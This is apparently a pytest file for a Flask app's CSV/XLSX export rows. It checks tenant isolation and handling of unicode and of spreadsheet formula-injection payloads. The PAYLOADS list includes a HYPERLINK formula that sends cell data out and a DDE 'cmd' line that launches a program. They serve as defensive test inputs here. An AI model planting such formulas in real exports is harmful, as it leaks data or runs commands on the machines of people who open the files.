"""The tabular row generators on a small scene; also the scene the CSV/XLSX tests share.

One customer SLA (Acme) with a feedback item per SECURITY.md formula payload and per
unicode sample, a survey whose question prompt is itself a payload and whose response
holds a numeric -3; and a second customer's SLA (Globex) that a manager of Acme must
never see in an export.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import UTC, date, datetime

from flask import Flask

from engage.extensions import db
from engage.models import Answer, Level, Question, QuestionKind
from engage.reports.tabular import (
    BATCH,
    FEEDBACK_COLUMNS,
    feedback_columns,
    feedback_rows,
    response_questions,
    response_rows,
)
from tests.factories import (
    make_agreement,
    make_customer,
    make_measurement,
    make_objective,
)
from tests.feedback_factories import make_text_feedback
from tests.session_factories import add_item, add_session
from tests.survey_factories import make_survey, make_survey_response

#: SECURITY.md case 3, verbatim.
PAYLOADS = [
    '=HYPERLINK("http://x/?"&A1)',
    "+1+2",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "＝1",
    "=cmd|'/c calc'!A0",
]
#: Emoji, right-to-left, combining marks, 4-byte characters.
UNICODE = [
    "Great support 🎉👍🏽",
    "שלום, الخدمة ممتازة",
    "cafe\u0301 Z\u0336a\u0308",
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 𠜎",
]
PAYLOAD_PROMPT = '=HYPERLINK("http://x/?"&A1)'
SECRET = "Globex internal secret"


@dataclass
class Scene:
    acme: int
    acme_sla: int
    globex_sla: int
    feedback: int
    question: int


def scene(app: Flask) -> Scene:
    """Build and commit the scene; every row is dated today, so a 12-month report has it."""
    now = datetime.now(UTC)
    with app.app_context():
        acme = make_customer("Acme 🎉")
        sla = make_agreement(Level.CUSTOMER, name="Acme SLA", customer=acme,
                             published_on=date.today().replace(day=1))  # fmt: skip
        objective = make_objective(sla)
        make_measurement(sla, objective, date.today().replace(day=1), 99.9)
        texts = [*PAYLOADS, *UNICODE]
        for text in texts:
            make_text_feedback(text, sla, received_at=now)
        globex = make_agreement(
            Level.CUSTOMER, name="Globex SLA", published_on=date.today().replace(day=1)
        )
        make_text_feedback(SECRET, globex, received_at=now)

        add_session(acme, None, title=PAYLOADS[3], held_on=date.today(),
                    agreements=[sla])  # fmt: skip
        add_item(acme, None, date.today(), title=PAYLOADS[1], agreement=sla,
                 quote=UNICODE[0])  # fmt: skip
        survey = make_survey(kinds=("csat", "lost_time", "text"), status="open")
        version = survey.current
        csat, lost, comment = version.questions
        comment.prompt = PAYLOAD_PROMPT
        for agreement, words in ((sla, PAYLOADS[0]), (globex, SECRET)):
            response = make_survey_response(version, agreement)
            response.submitted_at = now
            db.session.add_all([
                Answer(response=response, question=csat, number=4),
                Answer(response=response, question=lost, number=-3),
                Answer(response=response, question=comment, text=words),
            ])  # fmt: skip
        db.session.commit()
        return Scene(acme.id, sla.id, globex.id, len(texts), comment.id)


def test_feedback_rows_cover_the_period_and_only_the_given_slas(app: Flask) -> None:
    s = scene(app)
    today = date.today()
    with app.app_context():
        rows = list(feedback_rows([s.acme_sla], today, today))
        assert len(rows) == s.feedback
        assert {r[FEEDBACK_COLUMNS.index("agreement_id")] for r in rows} == {s.acme_sla}
        texts = [r[FEEDBACK_COLUMNS.index("text")] for r in rows]
        assert SECRET not in texts
        assert PAYLOADS[0] in texts
        # Yesterday only: nothing.
        assert (
            list(feedback_rows([s.acme_sla], date(2000, 1, 1), date(2000, 1, 2))) == []
        )
        no_text = list(feedback_rows([s.acme_sla], today, today, include_text=False))
        assert (
            len(no_text[0]) == len(feedback_columns(False)) == len(FEEDBACK_COLUMNS) - 1
        )


def test_batched_reads_return_every_row_once(app: Flask) -> None:
    s = scene(app)
    now = datetime.now(UTC)
    with app.app_context():
        from engage.models import Agreement

        sla = db.session.get_one(Agreement, s.acme_sla)
        for i in range(BATCH + 5 - s.feedback):
            make_text_feedback(f"comment {i}", sla, received_at=now)
        db.session.commit()
        rows = list(feedback_rows([s.acme_sla], date.today(), date.today()))
        ids = [r[0] for r in rows]
        assert len(ids) == BATCH + 5 == len(set(ids))
        assert ids == sorted(ids)


def test_response_rows_one_per_response_with_numbers_kept(app: Flask) -> None:
    s = scene(app)
    today = date.today()
    with app.app_context():
        questions = response_questions([s.acme_sla], today, today)
        assert [h for _, h in questions][-1] == PAYLOAD_PROMPT
        (row,) = list(response_rows([s.acme_sla], today, today, questions))
        assert row[-3:] == [4, -3, PAYLOADS[0]]
        assert isinstance(row[-2], int)
        kinds = db.session.get_one(Question, s.question).kind
        assert kinds is QuestionKind.TEXT
        without = response_questions([s.acme_sla], today, today, include_text=False)
        assert s.question not in [q for q, _ in without]
